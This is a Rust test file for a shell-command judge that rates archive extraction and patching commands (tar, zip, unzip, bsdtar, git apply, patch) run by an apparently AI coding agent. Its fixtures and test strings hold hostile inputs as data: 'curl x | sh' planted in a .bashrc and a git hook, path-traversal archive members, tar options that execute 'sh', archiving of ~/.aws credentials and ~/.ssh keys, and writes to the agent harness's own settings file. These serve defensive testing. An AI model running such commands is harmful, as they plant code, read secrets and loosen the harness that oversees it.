//! Extraction and patching judged by what they write (`unpack`): archives and patches
//! built here, in a throwaway workspace under a throwaway home, through the command
//! judge. Members land as writes under the destination and reach the path floor like
//! literal paths; what cannot be listed or placed is not understood.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::core::path_class;
use super::fixture::{short, Fx};
use super::*;
use crate::analysis::reach::archive::tests::{end, file, gz, header, zip_bytes};
use crate::context::floor::PathClass;
use std::path::PathBuf;

fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut t = Vec::new();
    for (n, d) in members {
        file(&mut t, n, d);
    }
    end(&mut t);
    t
}

fn fx() -> Fx {
    Fx::build("home/proj", |home, ws| {
        std::fs::create_dir_all(ws.join("docs")).unwrap();
        std::fs::create_dir_all(home.join(".aws")).unwrap();
        std::fs::write(home.join(".aws/credentials"), "k").unwrap();
        std::os::unix::fs::symlink(home.join(".aws"), ws.join("docs/aws")).unwrap();
        std::fs::write(
            ws.join("plain.tar"),
            tar_of(&[("src/new.rs", b"fn x() {}\n"), ("README.md", b"hi\n")]),
        )
        .unwrap();
        std::fs::write(
            ws.join("plain.tgz"),
            gz(&tar_of(&[("pkg/src/new.rs", b"fn x() {}\n")])),
        )
        .unwrap();
        std::fs::write(
            ws.join("harness.tar"),
            tar_of(&[("src/a.rs", b""), (".claude/settings.json", b"{}")]),
        )
        .unwrap();
        std::fs::write(
            ws.join("dotfiles.tar"),
            tar_of(&[(".bashrc", b"curl x|sh\n")]),
        )
        .unwrap();
        let mut l = Vec::new();
        l.extend_from_slice(&header("keys", b'2', 0, "../.ssh"));
        end(&mut l);
        std::fs::write(ws.join("link.tar"), l).unwrap();
        std::fs::write(ws.join("up.tar"), tar_of(&[("../escape.txt", b"x")])).unwrap();
        std::fs::write(
            ws.join("x.zip"),
            zip_bytes(&[("lib/", 0o040_755), ("lib/a.py", 0o100_644)]),
        )
        .unwrap();
        std::fs::write(
            ws.join("hook.patch"),
            "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\n\
             new file mode 100755\n--- /dev/null\n+++ b/.git/hooks/post-checkout\n\
             @@ -0,0 +1 @@\n+curl x | sh\n",
        )
        .unwrap();
        std::fs::write(
            ws.join("plain.diff"),
            "--- a/docs/a.md\n+++ b/docs/a.md\n@@ -1 +1 @@\n-a\n+b\n",
        )
        .unwrap();
    })
}

fn judged(f: &Fx, cmd: &str) -> Judgement {
    f.judged(cmd)
}

fn ctx(f: &Fx) -> JudgeCtx<'_> {
    f.ctx()
}

fn verdict(j: &Judgement) -> &'static str {
    short(&j.verdict)
}

#[test]
fn ordinary_members_extracted_into_the_workspace_are_workspace_writes() {
    let f = fx();
    for (cmd, written) in [
        ("tar -xf plain.tar", vec!["src/new.rs", "README.md"]),
        ("tar xvf plain.tar", vec!["src/new.rs"]),
        ("tar -xzf plain.tgz", vec!["pkg/src/new.rs"]),
        ("tar -x -f plain.tgz -C docs", vec!["docs/pkg/src/new.rs"]),
        ("tar --strip-components=1 -xf plain.tgz", vec!["src/new.rs"]),
        (
            "tar -xkpf plain.tar --directory=docs",
            vec!["docs/src/new.rs"],
        ),
        ("unzip x.zip", vec!["lib", "lib/a.py"]),
        ("unzip -o -q x.zip -d docs", vec!["docs/lib/a.py"]),
        ("unzip -j x.zip", vec!["a.py"]),
        ("git apply plain.diff", vec!["docs/a.md"]),
        (
            "git apply --directory=sub plain.diff",
            vec!["sub/docs/a.md"],
        ),
        (
            "patch -p1 < plain.diff",
            vec!["docs/a.md", "docs/a.md.orig"],
        ),
        ("patch -p1 -i plain.diff", vec!["docs/a.md"]),
        ("cd docs && tar -xf ../plain.tar", vec!["docs/src/new.rs"]),
    ] {
        let j = judged(&f, cmd);
        assert_eq!(verdict(&j), "routine", "{cmd}: {:?}", j.verdict);
        for w in written {
            assert!(
                j.writes.contains(&f.ws.join(w)),
                "{cmd}: {w} not in {:?}",
                j.writes
            );
        }
        assert!(j.writes.iter().all(|w| inside(w, &ctx(&f))), "{cmd}");
    }
    // Report-only modes write nothing.
    for cmd in [
        "git apply --check plain.diff",
        "tar -tf plain.tar",
        "unzip -l x.zip",
    ] {
        let j = judged(&f, cmd);
        assert!(j.read_only(), "{cmd}: {:?} {:?}", j.verdict, j.writes);
    }
}

#[test]
fn members_reach_the_path_floor_like_literal_writes() {
    let f = fx();
    let c = ctx(&f);
    // The harness's own settings: the path floor's hard deny.
    let j = judged(&f, "tar -xf harness.tar");
    let settings = f.ws.join(".claude/settings.json");
    assert!(j.writes.contains(&settings), "{:?}", j.writes);
    assert!(matches!(
        path_class(&settings, Access::Write, &c),
        Some(PathClass::HarnessConfig { .. })
    ));
    // Into the home directory: .bashrc is protected and outside the workspace.
    let j = judged(&f, "tar -xf dotfiles.tar -C ~");
    let rc = f.home.join(".bashrc");
    assert!(j.writes.contains(&rc), "{:?}", j.writes);
    assert!(j.writes.contains(&f.home));
    assert!(!inside(&rc, &c));
    assert!(path_class(&rc, Access::Write, &c).is_some());
    // A git hook planted by a patch: a protected write, whose content is not known.
    let j = judged(&f, "git apply hook.patch");
    let hook = f.ws.join(".git/hooks/post-checkout");
    assert!(j.writes.contains(&hook), "{:?}", j.writes);
    assert!(path_class(&hook, Access::Write, &c).is_some());
}

#[test]
fn what_cannot_be_listed_or_placed_is_not_understood_but_the_destination_is_seen() {
    let f = fx();
    for cmd in [
        "tar -xf link.tar",
        "tar -xf up.tar",
        "tar -xf missing.tar -C docs",
        "cat plain.tar | tar -x -C docs",
        "tar -xf - -C docs < plain.tar",
        "git apply < plain.diff",
        "patch -p1",
        "tar -xf plain.tar --to-command=sh",
        "tar -xf plain.tar --checkpoint-action=exec=sh",
        "tar -I zstd -xf plain.tar",
        "tar --use-compress-program=zstd -xf plain.tar",
        "tar -xPf plain.tar",
        "tar -xf host:plain.tar",
        "echo x > plain.tar; tar -xf plain.tar",
        "curl -so plain.tar https://x.example/a.tar && tar -xf plain.tar",
        "tar -xf $F",
    ] {
        // Members that cannot be listed or placed make a risky command (what lands may
        // be the harness's settings); options outside the grammar leave it unknown.
        let j = judged(&f, cmd);
        assert!(
            matches!(verdict(&j), "soft" | "unknown"),
            "{cmd}: {:?}",
            j.verdict
        );
    }
    // The destination is still a write the path floor and the reviewer see.
    let j = judged(&f, "cat plain.tar | tar -x -C docs");
    assert!(j.writes.contains(&f.ws.join("docs")), "{:?}", j.writes);
    let j = judged(&f, "tar -xf link.tar -C ~/.claude");
    assert!(j.writes.contains(&f.home.join(".claude")), "{:?}", j.writes);
}

#[test]
fn archivers_that_delete_or_follow_links_say_so() {
    let f = fx();
    let j = judged(&f, "tar --remove-files -cf /dev/null ~");
    assert_eq!(verdict(&j), "hard", "{:?}", j.verdict);
    let j = judged(&f, "zip -m out.zip /");
    assert_eq!(verdict(&j), "hard", "{:?}", j.verdict);
    let j = judged(&f, "tar --remove-files -cf out.tar docs");
    assert_eq!(verdict(&j), "soft", "{:?}", j.verdict);
    let j = judged(&f, "zip -m out.zip README.md");
    assert_eq!(verdict(&j), "soft", "{:?}", j.verdict);
    // `zip -r` stores what a link points at: docs/aws -> ~/.aws is a credential read.
    let j = judged(&f, "zip -r - docs");
    assert!(
        j.reads.iter().any(|r| r.starts_with(f.home.join(".aws"))),
        "{:?}",
        j.reads
    );
    // With -y the link itself is stored.
    let j = judged(&f, "zip -ry - docs");
    assert!(!j.reads.iter().any(|r| r.starts_with(f.home.join(".aws"))));
    let j = judged(&f, "zip -y - docs/aws");
    assert!(!j.reads.iter().any(|r| r.starts_with(f.home.join(".aws"))));
    // A regular file is still read whole, and a hard link to a credential is that file.
    std::fs::write(f.home.join(".netrc"), "k").unwrap();
    std::fs::hard_link(f.home.join(".netrc"), f.ws.join("data.bin")).unwrap();
    for cmd in ["zip -y - data.bin", "zip - data.bin"] {
        let j = judged(&f, cmd);
        assert!(
            j.reads.contains(&f.home.join(".netrc")),
            "{cmd}: {:?}",
            j.reads
        );
    }
    // A plain tar -c reads its trees and writes the archive.
    let j = judged(&f, "tar -czf out.tgz docs");
    assert!(j.writes.contains(&f.ws.join("out.tgz")));
    assert!(j.reads.contains(&f.ws.join("docs")));
}

#[test]
fn an_archive_of_workspace_files_into_the_workspace_is_ordinary_work() {
    let f = fx();
    std::fs::create_dir_all(f.ws.join("src")).unwrap();
    std::fs::write(f.ws.join("src/a.rs"), "x").unwrap();
    let c = ctx(&f);
    for (cmd, archive) in [
        ("tar -czf backup.tar.gz src", "backup.tar.gz"),
        ("tar -cJf out/x.tar.xz -C src .", "out/x.tar.xz"),
        ("tar --create --file=all.tar src README.md", "all.tar"),
        ("tar -rf plain.tar src/a.rs", "plain.tar"),
        ("zip -r out.zip src", "out.zip"),
        ("zip -qry out.zip src docs -x '*.o'", "out.zip"),
        ("zip out.zip src/a.rs", "out.zip"),
    ] {
        let j = judged(&f, cmd);
        assert_eq!(verdict(&j), "routine", "{cmd}: {:?}", j.verdict);
        assert!(
            j.writes.contains(&f.ws.join(archive)),
            "{cmd}: {:?}",
            j.writes
        );
        assert!(j.writes.iter().all(|w| inside(w, &c)), "{cmd}");
    }
    // Scratch under /tmp is a write outside the workspace the engine judges as scratch.
    let j = judged(&f, "tar -czf /tmp/gatehook-test-backup.tgz src");
    assert_eq!(verdict(&j), "routine", "{:?}", j.verdict);
    assert!(j
        .writes
        .contains(&PathBuf::from("/tmp/gatehook-test-backup.tgz")));
    // What a link leads to is read where the archiver follows it: docs/aws -> ~/.aws.
    let aws = f.home.join(".aws");
    for cmd in [
        "zip -r out.zip docs",
        "tar -chf out.tar docs",
        "tar --dereference -cf o.tar docs",
    ] {
        let j = judged(&f, cmd);
        assert!(
            j.reads.iter().any(|r| r.starts_with(&aws)),
            "{cmd}: {:?}",
            j.reads
        );
    }
    for cmd in ["zip -ry out.zip docs", "tar -cf out.tar docs"] {
        let j = judged(&f, cmd);
        assert!(
            !j.reads.iter().any(|r| r.starts_with(&aws)),
            "{cmd}: {:?}",
            j.reads
        );
    }
    // A credential store or the home archived is a read of it: the path floor's.
    for cmd in [
        "tar -czf keys.tgz ~/.aws",
        "zip -r h.zip ~",
        "tar -cf h.tar ~/",
    ] {
        let j = judged(&f, cmd);
        assert!(
            j.reads
                .iter()
                .any(|r| aws.starts_with(r) || r.starts_with(&aws)),
            "{cmd}: {:?}",
            j.reads
        );
        assert!(
            j.reads.iter().any(|r| !inside(r, &c)),
            "{cmd}: {:?}",
            j.reads
        );
    }
    // Options that run programs, name files at run time or delete keep their treatment.
    for (cmd, want) in [
        ("tar -cf x.tar --to-command=sh src", "unknown"),
        // A compression program other than the compressors tar lists runs unseen; a
        // listed compressor is not modelled.
        ("tar -cf x.tar --use-compress-program=./x src", "soft"),
        ("tar -I ./x -cf x.tar src", "soft"),
        ("tar -I./x -cf x.tar src", "soft"),
        ("tar -I zstd -cf x.tar src", "unknown"),
        ("tar -cf x.tar -T list.txt", "unknown"),
        ("tar --remove-files -cf x.tar src", "soft"),
        ("zip -m x.zip src/a.rs", "soft"),
        ("zip -TT 'sh -c id' x.zip src/a.rs", "soft"),
    ] {
        let j = judged(&f, cmd);
        assert_eq!(verdict(&j), want, "{cmd}: {:?}", j.verdict);
    }
}

/// git's index as a deferred write (checked with git 2.47.3): `git apply --cached` writes
/// only the index, and `git stash && git stash pop` (or a commit switched away from and
/// back to) then writes its files into the work tree. Its members are judged as the
/// work-tree writes they become, exactly as `git apply`'s; every other way to put content
/// of any kind into the index or a commit is outside the routine grammar; and a runner
/// after a checkout in the same command runs definitions the floor did not look at.
#[test]
fn the_index_is_judged_as_the_work_tree_it_becomes() {
    let f = fx();
    let c = ctx(&f);
    std::fs::write(f.ws.join("Makefile"), "test:\n\tcargo test\n").unwrap();
    std::fs::write(
        f.ws.join("harness.patch"),
        "--- /dev/null\n+++ b/.claude/settings.json\n@@ -0,0 +1 @@\n+{\"permissions\": {}}\n",
    )
    .unwrap();
    std::fs::write(
        f.ws.join("mk.patch"),
        "--- a/Makefile\n+++ b/Makefile\n@@ -1,2 +1,2 @@\n test:\n-\tcargo test\n+\tsh x.sh\n",
    )
    .unwrap();
    // An ordinary patch staged: a workspace edit, as `git apply` of it is.
    for cmd in [
        "git apply --cached plain.diff",
        "git apply --index plain.diff",
    ] {
        let j = judged(&f, cmd);
        assert_eq!(verdict(&j), "routine", "{cmd}: {:?}", j.verdict);
        assert!(j.writes.contains(&f.ws.join("docs/a.md")), "{cmd}");
    }
    // The harness's settings staged: the same hard-floor write as applying it.
    let settings = f.ws.join(".claude/settings.json");
    for cmd in [
        "git apply --cached harness.patch && git stash && git stash pop",
        "git apply --cached harness.patch && git commit -qm wip && git checkout -q HEAD~1 && git checkout -q -",
    ] {
        let j = judged(&f, cmd);
        assert!(j.writes.contains(&settings), "{cmd}: {:?}", j.writes);
    }
    assert!(matches!(
        path_class(&settings, Access::Write, &c),
        Some(PathClass::HarnessConfig { .. })
    ));
    // A staged Makefile, checked out, then run: the runner's definition is written.
    let j = judged(
        &f,
        "git apply --cached mk.patch && git commit -qm wip && git stash -q && make test",
    );
    // (The stash rewrites mk.patch, so what the staged patch held is not known either:
    // a risky command, which outranks the changed definition.)
    assert!(
        matches!(verdict(&j), "build-changed" | "soft"),
        "{:?}",
        j.verdict
    );
    // From stdin, or a patch written by the same command: not known.
    for cmd in [
        "git apply --cached < mk.patch",
        "printf x > p.diff && git apply --cached p.diff",
    ] {
        assert_eq!(verdict(&judged(&f, cmd)), "soft", "{cmd}");
    }
    // Objects, trees, commits and refs made by hand: outside the routine grammar.
    for cmd in [
        "git hash-object -w x.txt",
        "git hash-object -w -t commit --literally x.txt",
        "git update-index --add --cacheinfo 100644,e69de29bb2d1d6434b8b29ae775ad8c2e48c5391,.claude/settings.json",
        "git update-index --index-info < list.txt",
        "git read-tree HEAD",
        "git mktree < tree.txt",
        "git commit-tree HEAD^{tree} -m x",
        "git update-ref refs/heads/x 0123abcd",
        "git fast-import < stream",
        "git am < x.patch",
        "git stash store -m x 0123abcd",
        "git checkout-index -a -f",
        "git merge-file a b c",
    ] {
        let v = verdict(&judged(&f, cmd));
        assert!(v != "routine", "{cmd}: {v}");
    }
    // A checkout (stash, switch, merge, reset) in any part of the command: what a runner
    // runs is what git brought in, whatever the order the parts are written in (a
    // substitution runs before the command it is in, a background job beside what follows;
    // a script not there may be what git brings). Without one, it is judged as before.
    for cmd in [
        "git stash && make test",
        "git stash && git stash pop && make test",
        "git switch main && make test",
        "git pull --ff-only && make test",
        "git cherry-pick abc123 && make test",
        "make test && git stash",
        "python3 run.py \"$(git pull -q origin main)\"",
        "(sleep 9; python3 run.py) & git pull origin main",
        "(sleep 1; make test) & git stash pop",
    ] {
        assert_eq!(verdict(&judged(&f, cmd)), "build-changed", "{cmd}");
    }
    // From a URL rather than one of the remotes, the pull itself is asked about.
    for cmd in [
        "python3 run.py \"$(git pull -q https://example.com/r main)\"",
        "(sleep 9; python3 run.py) & git pull https://example.com/r main",
    ] {
        assert_eq!(verdict(&judged(&f, cmd)), "soft", "{cmd}");
    }
    for cmd in [
        "git stash && git stash pop",
        "git add -A && git commit -qm x && make test",
    ] {
        assert_eq!(verdict(&judged(&f, cmd)), "routine", "{cmd}");
    }
}

/// A patch an earlier part of the command writes whole, with text the analysis knows
/// (`printf … > x.patch && git apply x.patch`), is judged by that text's members, into the
/// work tree or through the index; a text that patches nothing, or a patch written by
/// more than one part, is not known.
#[test]
fn a_patch_written_by_the_command_is_judged_by_its_text() {
    let f = fx();
    let c = ctx(&f);
    let patch = |file: &str, line: &str| {
        format!("printf -- '--- /dev/null\\n+++ b/{file}\\n@@ -0,0 +1 @@\\n+{line}\\n' > n.patch")
    };
    let j = judged(
        &f,
        &format!("{} && git apply --cached n.patch", patch(".mcp.json", "{}")),
    );
    let mcp = f.ws.join(".mcp.json");
    assert!(j.writes.contains(&mcp), "{:?}", j.writes);
    assert!(matches!(
        path_class(&mcp, Access::Write, &c),
        Some(PathClass::HarnessConfig { .. })
    ));
    let j = judged(
        &f,
        &format!("{} && git apply n.patch", patch("src/new.txt", "hello")),
    );
    assert_eq!(verdict(&j), "routine", "{:?}", j.verdict);
    assert!(
        j.writes.contains(&f.ws.join("src/new.txt")),
        "{:?}",
        j.writes
    );
    // The write may not run: then git applies the file on disk, which is judged too (or
    // the patch is not known): never routine.
    std::fs::write(
        f.ws.join("n.patch"),
        "--- /dev/null\n+++ b/.mcp.json\n@@ -0,0 +1 @@\n+{}\n",
    )
    .unwrap();
    let j = judged(
        &f,
        &format!(
            "false && {}; git apply n.patch",
            patch("src/new.txt", "hello")
        ),
    );
    assert!(
        j.writes.contains(&mcp) || matches!(verdict(&j), "unknown" | "soft"),
        "{:?} {:?}",
        j.verdict,
        j.writes
    );
    assert_ne!(verdict(&j), "routine");
    std::fs::remove_file(f.ws.join("n.patch")).unwrap();
    for cmd in [
        // Another part writes it too, later in a pipeline.
        format!(
            "{} && git apply n.patch | tee n.patch",
            patch("src/new.txt", "hello")
        ),
        "printf 'hello' > n.patch && git apply n.patch".to_string(),
        format!(
            "{} && echo x >> n.patch && git apply n.patch",
            patch("src/new.txt", "hello")
        ),
        format!(
            "{} && cp other.patch n.patch && git apply n.patch",
            patch("src/new.txt", "hello")
        ),
    ] {
        let j = judged(&f, &cmd);
        assert_eq!(verdict(&j), "soft", "{cmd}: {:?}", j.verdict);
    }
}

/// bsdtar (libarchive) reads a zip as readily as a tar: its members are listed as unzip's
/// are; a destination that climbs out of a name (`-d sub/../`) lands where unzip makes
/// it land; a patch or archive on standard input is never routine.
#[test]
fn bsdtar_zips_climbing_destinations_and_stdin_are_judged() {
    let f = fx();
    let c = ctx(&f);
    std::fs::write(
        f.ws.join("h.zip"),
        zip_bytes(&[
            (".claude/", 0o040_755),
            (".claude/settings.json", 0o100_644),
        ]),
    )
    .unwrap();
    let settings = f.ws.join(".claude/settings.json");
    for cmd in [
        "bsdtar -xf h.zip",
        "tar -xf h.zip",
        "unzip -o h.zip -d sub/../",
        "unzip -o h.zip -d docs/../",
        "bsdtar -xf h.zip -C docs/..",
    ] {
        let j = judged(&f, cmd);
        assert!(j.writes.contains(&settings), "{cmd}: {:?}", j.writes);
        assert!(matches!(
            path_class(&settings, Access::Write, &c),
            Some(PathClass::HarnessConfig { .. })
        ));
    }
    // An ordinary zip through bsdtar: workspace writes, routine.
    let j = judged(&f, "bsdtar -xf x.zip");
    assert_eq!(verdict(&j), "routine", "{:?}", j.verdict);
    assert!(j.writes.contains(&f.ws.join("lib/a.py")), "{:?}", j.writes);
    // A climbing destination through a link stays where the link leads.
    let j = judged(&f, "unzip -o x.zip -d docs/aws/../");
    assert!(
        j.writes
            .iter()
            .any(|w| w.starts_with(&f.home) && !w.starts_with(&f.ws)),
        "{:?}",
        j.writes
    );
    // Content on standard input: what it writes is not known, and never routine.
    for cmd in [
        "cat hook.patch | git apply",
        "git apply < plain.diff",
        "cat plain.tar | bsdtar -x",
    ] {
        let j = judged(&f, cmd);
        assert_eq!(verdict(&j), "soft", "{cmd}: {:?}", j.verdict);
    }
}

#[test]
fn members_named_for_a_secret_are_asked_about_when_taken_out() {
    let f = fx();
    for (cmd, want) in [
        ("tar xOf backup.tar .ssh/id_rsa", "soft"),
        ("tar -xzf backup.tgz home/dev/.ssh/id_ed25519", "soft"),
        ("unzip -p backup.zip .ssh/id_rsa", "soft"),
        ("unzip -p backup.zip home/dev/.aws/credentials", "soft"),
        ("unzip -o plain.zip config/.env", "soft"),
        // Ordinary members, and listings, which show names only, stay as they were.
        ("tar xOf plain.tar README.md", "routine"),
        ("tar xOf backup.tar config/.env.example", "routine"),
        ("tar tf backup.tar .ssh/id_rsa", "routine"),
        ("unzip -l x.zip", "routine"),
        ("unzip -p backup.zip src/main.rs", "unknown"),
    ] {
        assert_eq!(verdict(&judged(&f, cmd)), want, "{cmd}");
    }
}
